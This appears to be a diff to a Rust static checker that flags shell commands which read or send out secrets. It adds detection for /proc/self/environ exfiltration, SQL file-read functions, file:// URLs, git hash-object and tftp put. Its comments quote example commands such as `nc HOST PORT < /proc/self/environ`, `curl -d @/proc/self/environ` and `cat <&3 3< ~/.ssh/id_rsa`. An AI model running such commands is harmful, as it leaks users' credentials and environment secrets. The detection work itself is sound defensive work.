@@ -453,6 +453,17 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
                 kind,
             ));
         }
+        // `nc HOST PORT < /proc/self/environ`: the environment sent.
+        if net
+            && let Input::File(w) = s
+            && paths::is_own_environ(&w.text)
+        {
+            found.push((
+                Role::Send,
+                w.text.clone(),
+                "every environment variable, secrets included".to_string(),
+            ));
+        }
     }
     // `cat <&3 3< ~/.ssh/id_rsa`, `exec 3< .env`: another descriptor opened
     // on a secret is read as surely as standard input.
@@ -578,6 +589,26 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
                     "a credential location: the shell history, with whatever was typed on command lines"
                         .to_string(),
                 ));
+            }
+        }
+        // `cd ~/.aws && cat credentials`, `(cd ~/.ssh && tar czf - .)`: a
+        // relative name in the directory an earlier `cd` went to, when
+        // that makes it a credential file or directory.
+        let cd_before = ctx.commands()[..i].iter().any(|b| {
+            b.argv
+                .first()
+                .is_some_and(|w| w.text == "cd" || w.text == "pushd")
+        });
+        if cd_before && let Some(dir) = super::cwd_before(ctx, i).filter(|d| !d.contains('$')) {
+            for w in ops.iter_mut() {
+                let t = w.text.as_str();
+                if t.starts_with(['/', '~', '$', '-']) || w.dynamic {
+                    continue;
+                }
+                let joined = format!("{}/{t}", dir.trim_end_matches('/'));
+                if ctx.secret_kind(&joined).is_some() || paths::secret_dir(&joined).is_some() {
+                    *w = Word::literal(joined);
+                }
             }
         }
         // `sed -i 's/^X=.*/X=dev/' .env`: the file is rewritten where it is
@@ -750,17 +781,49 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             }
         }
     }
-    // SQL that reads a file: `sqlite3 :memory: "select readfile('/etc/shadow')"`.
-    if matches!(name.as_str(), "sqlite3" | "sqlite" | "duckdb") {
-        for a in c.args() {
-            let mut rest = a.text.as_str();
-            while let Some(pos) = rest.find("readfile(") {
-                rest = &rest[pos + "readfile(".len()..];
-                let lit = rest.trim_start().trim_start_matches(['\'', '"']);
-                let path = lit.split(['\'', '"', ')']).next().unwrap_or("");
-                if let Some(kind) = ctx.secret_kind(path) {
-                    found.push((Role::Read, path.to_string(), kind));
+    // SQL that reads a file: `sqlite3 :memory: "select readfile('/etc/shadow')"`,
+    // DuckDB's `read_text('~/.aws/credentials')`, `pg_read_file`,
+    // MySQL's `LOAD_FILE`; sqlite3's `.read F` and `.import F T`.
+    if matches!(
+        name.as_str(),
+        "sqlite3" | "sqlite" | "duckdb" | "psql" | "mysql" | "mariadb" | "clickhouse-client"
+    ) {
+        let mut texts: Vec<String> = c.args().iter().map(|a| a.text.clone()).collect();
+        texts.extend(super::written::input_text(ctx, c));
+        for text in &texts {
+            for (path, _) in sql_files_read(text) {
+                if let Some(kind) = ctx.secret_kind(&path) {
+                    found.push((Role::Read, path, kind));
                 }
+            }
+        }
+    }
+    // `curl file:///home/dev/.netrc`: a URL of a local file reads it.
+    for a in c.args() {
+        if let Some(rest) = a.text.strip_prefix("file://") {
+            let path = rest.strip_prefix("localhost").unwrap_or(rest);
+            if let Some(kind) = ctx.secret_kind(path) {
+                found.push((Role::Read, path.to_string(), kind));
+            }
+        }
+    }
+    // `git hash-object -w F` stores F in the repository's objects (pushed
+    // with the next push); `git --work-tree=DIR add P` adds DIR/P.
+    if name == "git" {
+        found.extend(git_stored_paths(ctx, c));
+    }
+    // `cpio -o <<< FILE`, `ls ~/.ssh/* | cpio -o`: an archiver that reads
+    // the files whose names come on its input.
+    if ctx.model(i).is_some_and(|m| {
+        m.caps(aq_knowledge::programs::Does::Read)
+            .any(|cap| cap.via == aq_knowledge::programs::Via::Stdin)
+    }) {
+        for p in names_on_input(ctx, i) {
+            if let Some(kind) = ctx.secret_kind(&p) {
+                found.push((Role::Copy, p, kind));
+            } else if let Some(dir) = paths::secret_dir(&p).filter(|_| !NormPath::new(&p).is_home())
+            {
+                found.push((Role::Copy, p.clone(), dir.to_string()));
             }
         }
     }
@@ -787,7 +850,16 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             Some("x509" | "verify" | "crl" | "s_server" | "s_client")
         )
     {
-        found.retain(|(_, path, _)| !paths::is_key_file(path));
+        // A key fed on its input (`s_client … < key`) is sent, not used.
+        let fed: Vec<String> = c
+            .stdin
+            .iter()
+            .filter_map(|s| match s {
+                Input::File(w) => Some(w.text.clone()),
+                _ => None,
+            })
+            .collect();
+        found.retain(|(_, path, _)| !paths::is_key_file(path) || fed.contains(path));
     }
     // `gpg --verify x.tar.gz.asc x.tar.gz`: a signature checked against the
     // public keyring, nothing secret read or written.
@@ -969,6 +1041,140 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
             format!("`{name}` prints values of a .env file"),
         );
     }
+}
+
+/// The files SQL text reads: `readfile('F')`, `read_text('F')`,
+/// `read_blob`, `read_csv`, `read_json`, `pg_read_file`, `LOAD_FILE`, and
+/// sqlite3's `.read F` and `.import F TABLE`, with the function or
+/// dot-command that reads each.
+fn sql_files_read(text: &str) -> Vec<(String, &'static str)> {
+    const FUNCTIONS: &[&str] = &[
+        "readfile(",
+        "read_text(",
+        "read_blob(",
+        "read_csv(",
+        "read_csv_auto(",
+        "read_json(",
+        "read_json_auto(",
+        "read_ndjson(",
+        "pg_read_file(",
+        "pg_read_binary_file(",
+        "load_file(",
+    ];
+    let mut out = Vec::new();
+    let lower = text.to_ascii_lowercase();
+    for f in FUNCTIONS {
+        let mut from = 0;
+        while let Some(pos) = lower[from..].find(f) {
+            let at = from + pos + f.len();
+            from = at;
+            let lit = text[at..].trim_start().trim_start_matches(['\'', '"']);
+            let path = lit.split(['\'', '"', ')']).next().unwrap_or("");
+            if !path.is_empty() {
+                out.push((path.to_string(), *f));
+            }
+        }
+    }
+    for line in text.split(['\n', ';']) {
+        let mut words = line.split_whitespace();
+        if let (Some(".read" | ".import"), Some(file)) = (words.next(), words.next()) {
+            let file = file.trim_matches(['\'', '"']);
+            out.push((file.to_string(), ".read"));
+        }
+    }
+    out
+}
+
+/// What git stores from files outside its index's usual reach: `git
+/// hash-object -w F` (F's content in the object store; without `-w` only
+/// its hash is printed), and `git --work-tree=DIR add P` (DIR/P, a whole
+/// credential directory when P is one).
+fn git_stored_paths(ctx: &Ctx, c: &Command) -> Vec<(Role, String, String)> {
+    let mut out = Vec::new();
+    let sub = super::net::git_subcommand(c);
+    let args = c.args();
+    if sub == Some("hash-object") {
+        let writes = args.iter().any(|a| a.text == "-w");
+        let at = args
+            .iter()
+            .position(|a| a.text == "hash-object")
+            .map_or(0, |k| k + 1);
+        for w in args[at..].iter().filter(|w| !is_flag(w)) {
+            if let Some(kind) = ctx.secret_kind(&w.text) {
+                let role = if writes { Role::Copy } else { Role::Metadata };
+                out.push((role, w.text.clone(), kind));
+            }
+        }
+    }
+    if sub == Some("add") {
+        let work_tree = args.iter().enumerate().find_map(|(k, a)| {
+            if a.text == "--work-tree" {
+                args.get(k + 1).map(|w| w.text.clone())
+            } else {
+                a.text.strip_prefix("--work-tree=").map(str::to_string)
+            }
+        });
+        if let Some(tree) = work_tree {
+            let at = args
+                .iter()
+                .position(|a| a.text == "add")
+                .map_or(0, |k| k + 1);
+            // `add -A`, `add --all`: the whole work tree.
+            let all = args[at..]
+                .iter()
+                .any(|a| matches!(a.text.as_str(), "-A" | "--all"));
+            let whole = all.then(|| Word::literal("."));
+            for w in args[at..]
+                .iter()
+                .filter(|w| !is_flag(w))
+                .chain(whole.as_ref())
+            {
+                let p = format!("{}/{}", tree.trim_end_matches('/'), w.text);
+                if let Some(kind) = ctx.secret_kind(&p) {
+                    out.push((Role::Copy, p, kind));
+                } else if let Some(dir) = paths::secret_dir(&p) {
+                    out.push((Role::Copy, p, dir.to_string()));
+                } else if NormPath::new(&p).is_home() {
+                    out.push((
+                        Role::Copy,
+                        p,
+                        "the home directory, with the credential files in it".to_string(),
+                    ));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// File names command `i` reads on its input: the lines of a here-string
+/// or here-document, the words `echo`/`printf` pipe in, what `ls` lists
+/// and the directories `find` walks.
+fn names_on_input(ctx: &Ctx, i: usize) -> Vec<String> {
+    let c = &ctx.commands()[i];
+    let mut out = Vec::new();
+    for s in &c.stdin {
+        if let Input::Text(w) = s
+            && !w.dynamic
+        {
+            out.extend(w.text.lines().map(|l| l.trim().to_string()));
+        }
+    }
+    for u in ctx.upstream(i) {
+        let up = &ctx.commands()[u];
+        match up.program() {
+            Some("echo" | "printf" | "ls") => out.extend(
+                operands(up)
+                    .iter()
+                    .filter(|w| !w.dynamic)
+                    .flat_map(|w| w.text.split_whitespace().map(str::to_string)),
+            ),
+            Some("find") => out.extend(super::find_roots(up)),
+            _ => {}
+        }
+    }
+    out.retain(|p| !p.is_empty());
+    out
 }
 
 /// The .env file loaded into the environment that command `i` prints:
@@ -1176,13 +1382,36 @@ fn file_operands<'c>(c: &'c Command, name: &str) -> Vec<&'c Word> {
     {
         ops.remove(0);
     }
-    if matches!(
-        name,
-        "sed" | "awk" | "gawk" | "jq" | "yq" | "perl" | "python" | "python3"
-    ) && !ops.is_empty()
-        && !c.args().iter().any(|a| a.text == "-e" || a.text == "-f")
-    {
-        ops.remove(0);
+    // Perl's and Ruby's code in a cluster: `-pe1 FILE` (attached: every
+    // operand is a file read), `-ne 'CODE' FILE` (the next word is the code).
+    let code_cluster = matches!(name, "perl" | "ruby").then(|| {
+        c.args().iter().find_map(|a| {
+            let cluster = a.text.strip_prefix('-').filter(|t| !t.starts_with('-'))?;
+            let at = cluster.find(['e', 'E'])?;
+            cluster[..at]
+                .chars()
+                .all(|ch| ch.is_ascii_alphabetic())
+                .then(|| cluster.len() > at + 1)
+        })
+    });
+    match code_cluster.flatten() {
+        Some(true) => {}
+        Some(false) if a_cluster_is_exactly_e(c) => {}
+        Some(false) => {
+            if !ops.is_empty() {
+                ops.remove(0);
+            }
+        }
+        None => {
+            if matches!(
+                name,
+                "sed" | "awk" | "gawk" | "jq" | "yq" | "perl" | "python" | "python3"
+            ) && !ops.is_empty()
+                && !c.args().iter().any(|a| a.text == "-e" || a.text == "-f")
+            {
+                ops.remove(0);
+            }
+        }
     }
     // `sed -e SCRIPT F`: the script after `-e` is no file.
     if matches!(name, "sed" | "gsed") {
@@ -1236,6 +1465,12 @@ fn file_operands<'c>(c: &'c Command, name: &str) -> Vec<&'c Word> {
         out.push(v);
     }
     out
+}
+
+/// Whether `-e` is given alone (its code then is the next word, which
+/// `file_operands` has always kept).
+fn a_cluster_is_exactly_e(c: &Command) -> bool {
+    c.args().iter().any(|a| a.text == "-e" || a.text == "-E")
 }
 
 fn flag_value_words<'c>(c: &'c Command, flags: &[&str]) -> Vec<&'c Word> {
@@ -1309,6 +1544,17 @@ fn sent_paths(ctx: &Ctx, i: usize) -> Vec<(Role, String, String)> {
     ) {
         let mut script: Vec<String> = super::written::input_text(ctx, c).into_iter().collect();
         script.extend(flag_values_text(c, &["-c", "-e"], &[]));
+        // `tftp HOST -c put FILE`: the rest of the line is its command;
+        // busybox's and atftp's `tftp -p -l FILE HOST` put FILE.
+        if name == "tftp" {
+            if let Some(k) = c.args().iter().position(|a| a.text == "-c") {
+                let rest: Vec<&str> = c.args()[k + 1..].iter().map(|w| w.text.as_str()).collect();
+                script.push(rest.join(" "));
+            }
+            if c.args().iter().any(|a| a.text == "-p" || a.text == "--put") {
+                candidates.extend(flag_values_text(c, &["-l"], &["local-file"]));
+            }
+        }
         for line in script.iter().flat_map(|s| s.split(['\n', ';'])) {
             let words: Vec<&str> = line
                 .split_whitespace()
@@ -1343,6 +1589,13 @@ fn sent_paths(ctx: &Ctx, i: usize) -> Vec<(Role, String, String)> {
     for p in candidates {
         if let Some(kind) = ctx.secret_kind(&p) {
             out.push((Role::Send, p, kind));
+        } else if paths::is_own_environ(&p) {
+            // `curl -d @/proc/self/environ`: the whole environment goes out.
+            out.push((
+                Role::Send,
+                p,
+                "every environment variable, secrets included".to_string(),
+            ));
         } else if paths::is_history_file(&p) {
             // Sent away, the history's pasted tokens go with it.
             out.push((
@@ -1758,15 +2011,32 @@ fn check_process_environments(ctx: &mut Ctx, i: usize, name: &str) {
 /// Whether `i` reads, through a pipe, a dump of every environment variable
 /// (`env`, `printenv`, `export -p`, `set`, `cat /proc/self/environ`).
 fn reads_env_dump(ctx: &Ctx, i: usize) -> bool {
-    ctx.upstream(i).into_iter().any(|u| {
+    let upstream = ctx.upstream(i);
+    // `compgen -v | while read v; do echo "$v=${!v}"; done`: every
+    // variable's name listed, then its value read through it.
+    let lists_names = upstream.iter().any(|&u| {
         let up = &ctx.commands()[u];
-        matches!(
-            up.program(),
-            Some("env" | "printenv" | "set" | "export" | "declare")
-        ) && up.runs.is_none()
-            && operands(up).is_empty()
-            || reads_own_environ(up)
-    })
+        up.program() == Some("compgen")
+            && up
+                .args()
+                .iter()
+                .any(|a| matches!(a.text.as_str(), "-v" | "-e" | "variable" | "export"))
+    });
+    let reads_through_names = lists_names
+        && ctx
+            .commands()
+            .iter()
+            .any(|c| c.args().iter().any(|a| a.text.contains("${!")));
+    reads_through_names
+        || upstream.into_iter().any(|u| {
+            let up = &ctx.commands()[u];
+            matches!(
+                up.program(),
+                Some("env" | "printenv" | "set" | "export" | "declare")
+            ) && up.runs.is_none()
+                && operands(up).is_empty()
+                || reads_own_environ(up)
+        })
 }
 
 /// `cat /proc/self/environ`, `xargs -0 < /proc/$$/environ`: a command
@@ -1984,6 +2254,35 @@ fn check_code_reads_environment(ctx: &mut Ctx, i: usize) {
             .literals
             .iter()
             .any(|l| paths::is_dotenv_secret(NormPath::new(l.trim()).name()));
+    // `node -r dotenv/config -e 'console.log(process.env)'`, `node
+    // --env-file=.env -e …`, `ruby -rdotenv/load -e 'p ENV'`: the .env file
+    // loaded before the code, which prints the environment.
+    let args = c.args();
+    let preloaded = args.iter().enumerate().any(|(k, a)| {
+        let t = a.text.as_str();
+        let env_file = match t.strip_prefix("--env-file") {
+            Some("") => args.get(k + 1).map(|w| w.text.as_str()),
+            Some(v) => v.strip_prefix('='),
+            None => None,
+        };
+        t.contains("dotenv/config")
+            || t.contains("dotenv/load")
+            || env_file.is_some_and(|f| paths::is_dotenv_secret(NormPath::new(f).name()))
+    });
+    // `node -p EXPR` prints the value of the code.
+    let prints = prints
+        || lang == "node"
+            && args
+                .iter()
+                .any(|a| a.text == "-p" || a.text == "--print" || a.text.starts_with("--print="));
+    if preloaded && prints && accesses.contains(&EnvAccess::Whole) {
+        ctx.hit(
+            RuleId::SecretRead,
+            i,
+            format!("{lang} code prints the environment after loading a .env file into it"),
+        );
+        return;
+    }
     if t.to_ascii_lowercase().contains("dotenv") && prints && values && !only_templates {
         ctx.hit(
             RuleId::SecretRead,
